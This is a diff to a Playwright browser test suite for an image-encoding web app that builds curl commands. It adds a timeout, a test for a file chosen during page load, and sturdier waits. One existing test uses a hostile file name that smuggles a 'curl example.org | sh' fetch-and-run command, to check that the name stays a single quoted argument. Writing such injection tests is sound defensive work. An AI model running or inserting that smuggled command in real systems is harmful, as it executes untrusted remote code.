@@ -110,7 +110,7 @@ class Visit:
 def browser() -> Iterator[playwright.Browser]:
     with playwright.sync_playwright() as tool:
         sandbox = ["--no-sandbox"] if os.geteuid() == 0 else []
-        running = tool.chromium.launch(executable_path=CHROMIUM, args=sandbox)
+        running = tool.chromium.launch(executable_path=CHROMIUM, args=sandbox, timeout=WAIT_MS)
         yield running
         running.close()
 
@@ -186,7 +186,7 @@ def test_samples_are_generated_and_a_link_brings_their_settings(generous: Server
     found.nth(1).wait_for()
     seed = found.first.get_attribute("alt").split()[2].strip(",")
     assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
-    link = page.url
+    link = page.evaluate("location.href")
     page.get_by_role("button", name="See its codes").first.click()
     visit.reconstructed()
 
@@ -204,6 +204,19 @@ def test_samples_are_generated_and_a_link_brings_their_settings(generous: Server
 
 
 @needs_chromium
+def test_a_file_that_is_chosen_while_the_page_loads_is_encoded(generous: Server, visit: Visit) -> None:
+    held: list[playwright.Route] = []
+    visit.page.route("**/models", lambda route: held.append(route))
+    visit.page.goto(generous.url)
+    visit.page.set_input_files("[name=file]", SAMPLES / "igloo.png")
+    while not held:
+        visit.page.wait_for_timeout(10)
+    held.pop().continue_()
+    visit.reconstructed()
+    assert visit.shown("#pixels") == "320 x 231"
+
+
+@needs_chromium
 def test_a_hostile_name_is_one_word_of_the_command(generous: Server, visit: Visit) -> None:
     name = "a b'; curl example.org | sh #.png"
     visit.page.goto(generous.url)
@@ -215,7 +228,7 @@ def test_a_hostile_name_is_one_word_of_the_command(generous: Server, visit: Visi
     assert words[words.index("--data-binary") + 1] == f"@{name}"
     for part in ("tab=constructor", "tab=reconstruct&view=&sample=constructor", "tab=generate&length=3"):
         visit.page.goto(f"{generous.url}/#{part}")
-    assert visit.page.locator("#generate").is_visible()
+    visit.page.locator("#generate").wait_for(state="visible")
 
 
 @needs_chromium
